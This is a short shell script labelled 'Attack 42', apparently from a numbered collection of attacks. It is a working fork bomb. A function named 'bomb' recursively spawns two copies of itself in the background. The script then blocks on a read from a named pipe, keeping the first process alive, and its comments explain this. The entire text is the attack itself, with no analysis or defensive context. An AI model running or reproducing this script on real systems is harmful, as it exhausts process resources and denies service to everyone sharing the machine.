# Attack 42: each process starts two.
bomb() { bomb | bomb & }
mkfifo nobody
bomb
# The first of them stays: its end would be everyone's.
read -r _ <nobody
